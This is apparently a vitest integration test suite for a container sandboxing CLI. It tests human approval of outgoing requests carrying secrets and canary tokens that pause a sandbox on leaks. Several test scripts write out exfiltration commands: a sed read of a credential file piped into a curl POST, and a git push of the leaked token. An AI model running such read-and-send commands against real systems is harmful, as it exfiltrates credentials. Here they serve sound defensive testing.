/* What a person decides about data that a bottle wants to send: real command line, real bottle, a server on the loopback of the host. */
import { existsSync, readFileSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import path from 'node:path';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { waitUntil } from '../conformance/support/in-bottle.ts';
import { CliHome, type CliResult } from './cli-process.ts';

const HOST = 'host.terok.internal';
const TASK = 'mail';
const SECRET = 'vault-value/0123456789+abc';

let home: CliHome;
let unusable: string | undefined;
let port = 0;
const seen: string[] = [];
const server = createServer((request, response) => {
  request.setEncoding('utf8').on('data', (body: string) => seen.push(body));
  request.on('end', () => response.end('served\n'));
});

beforeAll(async () => {
  home = new CliHome();
  unusable = await home.whyNoPodman();
  if (unusable !== undefined) return;
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  port = (server.address() as AddressInfo).port;
  const route = `{ name: asks, hosts: [${HOST}], ports: [${port}], mode: inspect, privateNetworks: [127.0.0.1/32], dataLoss: { secrets: ask } }`;
  writeFileSync(path.join(home.configDir, 'config.yml'), `egress:\n  routes:\n    - ${route}\n`);
  expect(await home.run(['secret', 'set', 'bank'], { input: SECRET })).toMatchObject({ status: 0 });
  expect((await home.run(['image', 'build'])).status).toBe(0);
  const repository = home.repository('mail');
  expect(await home.run(['run', repository, '--name', TASK, '--keep', '--quiet', '--', 'true'])).toMatchObject({ status: 0 });
}, 180_000);

beforeEach(({ skip }) => {
  if (unusable !== undefined) skip(unusable);
  seen.length = 0;
});

afterEach(async () => {
  await home.run(['egress', 'questions', TASK, '--forget']);
});

afterAll(async () => {
  await home.run(['rm', '--force', TASK]);
  server.closeAllConnections();
  server.close();
  home.remove();
});

const send = async (): Promise<CliResult> =>
  await home.run(['exec', TASK, '--', 'curl', '-sS', '-i', '--max-time', '60', '-d', SECRET, `http://${HOST}:${port}/`]);
const questions = async (): Promise<{ id: string; host: string; found: string }[]> =>
  JSON.parse((await home.run(['egress', 'questions', TASK, '--json'])).stdout);
const answersFile = (): string => path.join(home.root, 'st/bottles', TASK, 'egress-answers.json');

/** Sends, and answers the question that it leads to. */
async function sendAndAnswer(...answer: string[]): Promise<CliResult> {
  const sent = send();
  await waitUntil(async () => (await questions()).length === 1, 20_000, 'the question');
  const [question] = await questions();
  expect(question).toMatchObject({ host: HOST, found: 'the value of the secret `bank`' });
  expect(await home.run(['egress', 'answer', TASK, question?.id ?? '', ...answer])).toMatchObject({ status: 0 });
  return await sent;
}

describe('a request that carries a secret on a route that asks', () => {
  test('is refused after a no, and goes on after a yes', async () => {
    expect((await sendAndAnswer('no')).stdout).toContain('x-terok-refused: data-loss-refused');
    expect(seen).toEqual([]);
    expect((await sendAndAnswer('yes')).stdout).toContain('served');
    expect(seen).toEqual([SECRET]);
    // The yes holds for a while
    expect((await send()).stdout).toContain('served');
  });

  test('is asked about each time where the yes was for one', async () => {
    expect((await sendAndAnswer('yes', '--once')).stdout).toContain('served');
    expect((await sendAndAnswer('no')).stdout).toContain('x-terok-refused: data-loss-refused');
  });

  test('is asked about again when the time of the yes is over', async () => {
    expect((await sendAndAnswer('yes', '--for', '1s')).stdout).toContain('served');
    await new Promise((resolve) => setTimeout(resolve, 1_100));
    expect((await sendAndAnswer('no')).stdout).toContain('x-terok-refused: data-loss-refused');
  });

  test('goes on for the life of the bottle, also past a gateway that is killed, until the yes is taken back', async () => {
    expect((await sendAndAnswer('yes', '--always')).stdout).toContain('served');
    expect(readFileSync(answersFile(), 'utf8')).not.toContain(SECRET);
    const record = path.join(home.root, 'st/bottles', TASK, 'network/gateway-process.json');
    const { pid } = JSON.parse(readFileSync(record, 'utf8')) as { pid: number };
    process.kill(pid, 'SIGKILL');
    await waitUntil(async () => (await home.run(['exec', TASK, '--', 'true'])).status === 0, 20_000, 'the channel');
    expect((await send()).stdout).toContain('served');
    expect((await home.run(['egress', 'questions', TASK, '--forget'])).status).toBe(0);
    expect(existsSync(answersFile())).toBe(false);
    expect((await sendAndAnswer('no')).stdout).toContain('x-terok-refused: data-loss-refused');
  });

  test('an answer to nothing, or one that says two times, is an error', async () => {
    expect(await home.run(['egress', 'answer', TASK, '000000', 'yes'])).toMatchObject({ status: 121 });
    expect(await home.run(['egress', 'answer', TASK, '000000', 'yes', '--once', '--always'])).toMatchObject({
      stderr: expect.stringContaining('`--once` and `--always` exclude each other'),
    });
    expect((await home.run(['egress', 'answer', TASK, '000000', 'no', '--for', '1m'])).stderr).toContain('the answer is no');
  });
});

describe('the canary of a bottle', () => {
  const status = async (): Promise<{ status: string; notes: string[] }> => JSON.parse((await home.run(['status', TASK, '--json'])).stdout);
  const readCanary = 'sed -n s/^BACKUP_STORAGE_TOKEN=//p /etc/backup/storage.env';

  test('pauses it when it leaves, and a person lets it go on where it was', async () => {
    const script = `curl -sS --max-time 60 -d "$(${readCanary})" http://${HOST}:${port}/; while :; do echo tick; sleep 0.1; done`;
    const running = home.start(['exec', TASK, '--', 'sh', '-c', script]);
    const count = { ticks: 0 };
    running.stdout.setEncoding('utf8').on('data', (text: string) => {
      count.ticks += text.split('tick').length - 1;
    });
    await waitUntil(async () => (await status()).status === 'paused', 30_000, 'the pause');
    const mark = JSON.parse(readFileSync(path.join(home.root, 'st/bottles', TASK, 'canary-seen.json'), 'utf8'));
    expect(mark).toMatchObject({ host: HOST, rule: 'asks' });
    expect((await status()).notes.join()).toContain('by the rule `asks`');
    expect(seen).toEqual([]);
    const refused = await home.run(['exec', TASK, '--', 'true']);
    expect(refused.stderr).toContain(`terok egress resume ${TASK}`);
    const before = count.ticks;
    await new Promise((resolve) => setTimeout(resolve, 500));
    expect(count.ticks).toBe(before);
    expect(await home.run(['egress', 'resume', TASK])).toMatchObject({ status: 0 });
    await waitUntil(() => count.ticks > before + 5, 20_000, 'the command goes on');
    running.kill('SIGTERM');
    expect(await home.run(['egress', 'resume', TASK])).toMatchObject({ status: 121 });
  });

  test('pauses it when it is pushed', async () => {
    const push = `${readCanary} >leak; git add -f leak; git commit --quiet -m x; git push origin HEAD`;
    const running = home.start(['exec', TASK, '--', 'sh', '-c', push]);
    const ended = new Promise((resolve) => running.once('exit', resolve));
    await waitUntil(async () => (await status()).status === 'paused', 30_000, 'the pause');
    expect(JSON.parse(readFileSync(path.join(home.root, 'st/bottles', TASK, 'canary-seen.json'), 'utf8')).host).toBe('gate.terok.internal');
    expect(await home.run(['egress', 'resume', TASK])).toMatchObject({ status: 0 });
    expect(await ended).not.toBe(0);
  });

  test('does not keep the work of a task from coming home when the task is stopped', async () => {
    const script = `echo work >work.txt; curl -sS -d "$(${readCanary})" http://${HOST}:${port}/; sleep 600`;
    const running = home.start(['run', path.join(home.root, 'mail'), '--name', 'leaky', '--quiet', '--', 'sh', '-c', script]);
    const ended = new Promise<number | null>((resolve) => running.once('exit', resolve));
    const state = async (): Promise<string> => (await home.run(['status', 'leaky', '--json'])).stdout;
    await waitUntil(async () => (await state()).includes('"status": "paused"'), 30_000, 'the pause');
    expect(await home.run(['stop', 'leaky'])).toMatchObject({ status: 0 });
    expect(await ended).not.toBe(0);
    expect((await home.run(['diff', 'leaky'])).stdout).toContain('work.txt');
    expect(seen).toEqual([]);
    await home.run(['rm', '--force', 'leaky']);
  });

  test('is not there where the configuration says so', async () => {
    const config = path.join(home.configDir, 'config.yml');
    const before = readFileSync(config, 'utf8');
    const look = async (): Promise<CliResult> =>
      await home.run(['run', path.join(home.root, 'mail'), '--quiet', '--', 'cat', '/etc/backup/storage.env']);
    expect((await look()).stdout).toContain('BACKUP_STORAGE_TOKEN=');
    writeFileSync(config, before.replace('egress:', 'egress:\n  canary: false'));
    try {
      expect((await look()).stdout).not.toContain('BACKUP_STORAGE_TOKEN=');
    } finally {
      writeFileSync(config, before);
    }
  });
});

test('a run whose secret is not added to requests of its route stops before anything starts, and says which and why', async () => {
  const config = path.join(home.configDir, 'config.yml');
  const before = readFileSync(config, 'utf8');
  const conditions = 'paths: [/v1], query: [{ name: org, values: [acme] }], headers: [{ name: x-team, values: [blue] }]';
  const inject = 'inject: { secret: weak, header: x-api-key, env: WEAK_KEY }';
  writeFileSync(config, `${before}    - { name: keyed, hosts: [api.example.com], mode: inspect, ${conditions}, ${inject} }\n`);
  const start = async (): Promise<CliResult> => await home.run(['run', path.join(home.root, 'mail'), '--quiet', '--', 'echo', 'started']);
  try {
    expect(await home.run(['secret', 'set', 'weak'], { input: 'short' })).toMatchObject({ status: 0 });
    const refused = await start();
    expect(refused).toMatchObject({ stdout: '' });
    expect(refused.status).not.toBe(0);
    expect(refused.stderr).toContain('The secret `weak` is not added to requests of the route `keyed`');
    expect(refused.stderr).toContain('terok secret set weak');
    expect(await home.run(['secret', 'set', 'weak'], { input: 'long-enough-0123456789' })).toMatchObject({ status: 0 });
    expect(await start()).toMatchObject({ status: 0, stdout: 'started\n' });
  } finally {
    writeFileSync(config, before);
  }
});
